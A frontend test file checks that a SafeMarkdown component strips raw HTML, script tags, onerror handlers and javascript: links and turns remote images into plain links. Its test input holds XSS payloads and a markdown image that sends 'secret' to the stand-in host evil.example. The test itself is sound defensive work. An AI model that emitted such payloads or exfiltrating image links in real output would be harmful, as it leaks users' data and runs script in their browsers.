import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import SafeMarkdown from './safe-markdown';

describe('SafeMarkdown', () => {
  it('renders no raw HTML and loads no remote image', () => {
    const text = [
      '# Report',
      '<img src=x onerror="window.__pwned=1">',
      '<script>window.__pwned=2</script>',
      '![x](https://evil.example/a.png?d=secret)',
      '[click](javascript:alert(1))',
      '| a | b |\n|---|---|\n| 1 | 2 |',
    ].join('\n\n');
    const { container } = render(<SafeMarkdown text={text} />);
    // A heading in model output never competes with the page's own h1 and h2.
    expect(screen.getByRole('heading', { name: 'Report' })).toHaveProperty('tagName', 'H3');
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('[onerror]')).toBeNull();
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    // The image becomes a link a person may choose to open, with no referrer.
    const image = screen.getByRole('link', { name: /Image: x/ });
    expect(image).toHaveAttribute('href', 'https://evil.example/a.png?d=secret');
    expect(image).toHaveAttribute('rel', expect.stringContaining('noreferrer'));
    // javascript: URLs are dropped.
    expect(screen.getByText('click').closest('a')?.getAttribute('href') ?? '').not.toMatch(
      /^javascript:/i,
    );
    // GFM tables still work.
    expect(screen.getByRole('table')).toBeInTheDocument();
  });
});
